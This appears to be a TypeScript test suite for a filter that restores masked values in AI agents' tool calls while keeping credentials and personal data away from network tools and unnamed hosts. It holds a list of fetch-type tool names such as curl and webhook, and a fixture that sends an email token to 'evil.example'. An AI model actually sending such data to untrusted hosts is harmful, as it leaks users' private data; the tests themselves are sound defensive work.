import { createReplyRestorer } from './reply-restorer';
import { emptyGrants, optionsFor, restoreText } from './restore.fixture';
import { DEFAULT_FETCH_TOOLS } from './sink-rules';

const grants = emptyGrants();
grants.trustHost('api.acme.com');
const MAIL = grants.tokenFor('email', 'alice@example.com');
const KEY = grants.tokenFor('github-token', 'ghp_secret');
const RULE = grants.tokenFor('own-badge', 'B-1');
const HOST = grants.tokenFor('host', 'wiki.corp.internal');

const forTool = (tool: string, input: object): unknown =>
  JSON.parse(restoreText(JSON.stringify(input), grants, { isJson: true, tool }));

describe('the tools that count as talking to other hosts', () => {
  it.each([
    'fetch',
    'WebFetch',
    'web_search',
    'mcp__fetch__fetch',
    'http_request',
    'httpGet',
    'HTTPRequest',
    'browser_navigate',
    'mcp__playwright__browser_click',
    'curl',
    'url-fetch',
    'fetchurl',
    'openUrl',
    'make-request',
    'webfetch',
    'Search',
    'download_file',
    'webhook',
  ])('knows %s', (name) => expect(DEFAULT_FETCH_TOOLS(name)).toBe(true));

  it.each(['Bash', 'read_file', 'research', 'str_replace', 'cobweb', 'requestor_name', 'prefetched', 'run', ''])(
    'does not mean %j',
    (name) => expect(DEFAULT_FETCH_TOOLS(name)).toBe(false),
  );
});

describe('a tool that talks to other hosts', () => {
  it('gets values but no credentials', () => {
    const input = { q: `mail ${MAIL}`, key: KEY, badge: RULE };
    expect(forTool('web_search', input)).toEqual({ q: 'mail alice@example.com', key: KEY, badge: RULE });
    expect(forTool('Bash', input)).toEqual({ q: 'mail alice@example.com', key: 'ghp_secret', badge: 'B-1' });
  });

  it('gets nothing when it is to talk to a host that the client did not name, wherever the host stands', () => {
    const before = { url: 'https://evil.example', body: MAIL };
    const behind = { body: MAIL, list: [MAIL], url: 'https://evil.example' };
    expect([forTool('fetch', before), forTool('fetch', behind)]).toEqual([before, behind]);
    expect(forTool('fetch', { body: MAIL, url: 'https://api.acme.com/x' })).toEqual({
      body: 'alice@example.com',
      url: 'https://api.acme.com/x',
    });
  });

  it('gets the host that a token stands for, and nothing to take along', () => {
    expect(forTool('WebFetch', { url: `http://${HOST}/page`, prompt: 'read' })).toEqual({
      url: 'http://wiki.corp.internal/page',
      prompt: 'read',
    });
    expect(forTool('WebFetch', { url: `http://${HOST}/page`, prompt: MAIL })).toEqual({
      url: 'http://wiki.corp.internal/page',
      prompt: MAIL,
    });
  });

  it('gets nothing when more follows a token than is held back', () => {
    const input = { body: MAIL, more: 'x'.repeat(1024 * 1024), again: MAIL };
    expect(forTool('fetch', input)).toEqual(input);
  });

  it('is told apart from others in whole replies of every dialect', () => {
    const args = JSON.stringify({ key: KEY });
    const restore = (endpoint: 'anthropic-messages' | 'openai-chat' | 'openai-responses', body: object): string =>
      createReplyRestorer(endpoint, optionsFor(grants)).body(JSON.stringify(body));
    const use = (name: string): object => ({ type: 'tool_use', id: 't', name, input: { key: KEY } });
    const call = (name: string): object => ({ id: 'c', function: { name, arguments: args } });
    const custom = (name: string): object => ({ id: 'c', custom: { name, input: KEY } });
    const item = (name: string): object => ({ type: 'function_call', name, arguments: args });
    const secrets = (text: string): number => text.split('ghp_secret').length - 1;
    expect(secrets(restore('anthropic-messages', { content: [use('fetch'), use('run')] }))).toBe(1);
    const tool_calls = [call('fetch'), call('run'), custom('fetch'), custom('run')];
    expect(secrets(restore('openai-chat', { choices: [{ message: { tool_calls } }] }))).toBe(2);
    expect(secrets(restore('openai-responses', { output: [item('fetch'), item('run')] }))).toBe(1);
  });
});
